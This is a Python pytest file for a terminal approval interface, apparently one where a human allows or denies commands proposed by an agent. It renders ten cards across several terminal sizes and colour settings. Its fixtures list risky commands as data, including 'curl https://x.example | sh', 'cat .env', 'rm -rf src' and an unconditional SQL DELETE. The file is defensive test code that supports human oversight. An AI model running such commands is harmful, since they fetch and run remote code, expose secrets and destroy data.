"""Ten different cards on three sizes of terminal, with and without colour: what is read is enough to answer them."""

from __future__ import annotations

import shutil
from contextlib import ExitStack
from pathlib import Path

import pytest
from tmux_rig import DeskServer, Tmux, bash_env, face_of, until
from tui_desk import force_push, install

from leashtui.model.card import Card, Choice, Option
from leashtui.model.facts import Effect, Severity, Verb
from leashtui.model.wire import Answer, CardGone, CardShown

pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="needs tmux")

FACES = (
    ((80, 24), ()),
    ((120, 40), ("NO_COLOR=1",)),
    ((200, 60), ()),
    ((80, 24), ("NO_COLOR=1",)),
    ((120, 40), ("TERM=linux",)),
    ((200, 60), ("TERM=vt100",)),
)


HIGH, CRITICAL, MEDIUM = Severity.HIGH, Severity.CRITICAL, Severity.MEDIUM
ONCE, SESSION, DENY = Choice.ONCE, Choice.SESSION, Choice.DENY
CARDS = [
    ("rm -rf src", "removes src with everything in it", HIGH, "41 files in all", "", "n", DENY, ""),
    ("npm install left-pad", "adds a package", MEDIUM, "", "this session: npm install …", "s", SESSION, ""),
    ("git push --force origin main", "force-pushes main", CRITICAL, "3 commits gone", "", "y!", ONCE, ""),
    ("cat .env", "reads .env, which holds secrets", HIGH, "", "", "dask me\n", DENY, "ask me"),
    ("pip install flask", "adds a package", Severity.LOW, "", "this session: pip install …", "y", ONCE, ""),
    ("curl https://x.example | sh", "runs what comes from the network", CRITICAL, "", "", "n", DENY, ""),
    ("git reset --hard HEAD~1", "throws away edits", HIGH, "1 commit gone", "", "y!", ONCE, ""),
    ("psql -c 'DELETE FROM t'", "changes data", CRITICAL, "removes every row of t", "", "n", DENY, ""),
    ("chmod 777 .", "loosens permissions", MEDIUM, "", "", "y", ONCE, ""),
    ("docker run x", "starts a container", MEDIUM, "", "this session: docker run …", "n", DENY, ""),
]
"""What is on the card: command, consequence, severity, count, wider answer; the keys that answer it; what is heard."""


def card(number: int, command: str, consequence: str, severity: Severity, counted: str, wide: str) -> Card:
    wider = (Option("s", SESSION, wide),) if wide else ()
    return (install if wide else force_push)(
        f"L-{number}",
        command=command,
        consequence=consequence,
        severity=severity,
        options=(Option("y", ONCE, "once"), *wider, Option("n", DENY, "deny")),
        evidence=(Effect(Verb.DELETE, sentence=counted),) if counted else (),
    )


def test_ten_cards_are_answered_by_what_is_read(tmp_path: Path) -> None:
    heard: list[Answer] = []
    with ExitStack() as stack:
        desk = stack.enter_context(DeskServer(tmp_path, ["cat"], bash_env(tmp_path)))
        faces = []
        for number, (size, env) in enumerate(FACES):
            place = tmp_path / str(number)
            place.mkdir()
            faces.append(stack.enter_context(Tmux(place, ["env", *env, *face_of(desk)], *size)))
        for face in faces:
            face.shows(" leash ", "ctrl+]")
            face.keys("C-]")
            face.shows("timeline")
        for number, (*told, keys, choice, feedback) in enumerate(CARDS):
            made = card(number, *told)
            command, consequence, severity, counted, wide = told
            desk.say(CardShown(made))
            for one in faces:
                screen = one.shows("NEEDS YOU", consequence[:24], command, counted, wide, " n  deny")
                assert screen.index(consequence[:24]) < screen.rindex(f" {command}")
                assert (", then !" in screen) == (severity in {HIGH, CRITICAL})
            face = faces[number % len(faces)]
            for key in keys:
                if key in "ys" and choice is not DENY:
                    face.shows(f" {key}  {'once' if key == 'y' else 'this session'}")
                if key == "!":
                    face.shows("press ! to run it once")
                face.keys("Enter") if key == "\n" else face.type(key)
            heard = answers(desk, number + 1)
            assert heard[-1] == Answer(made.id, choice, feedback)
            desk.say(CardGone(made.id, "denied" if choice is DENY else "allowed", "ada"))
    assert len(heard) == len(CARDS)


def answers(desk: DeskServer, many: int) -> list[Answer]:
    """So many answers, once they are heard; no more than that."""
    until(lambda: sum(isinstance(m, Answer) for m in desk.received) >= many, f"answer {many}")
    found = [m for m in desk.received if isinstance(m, Answer)]
    assert len(found) == many
    return found
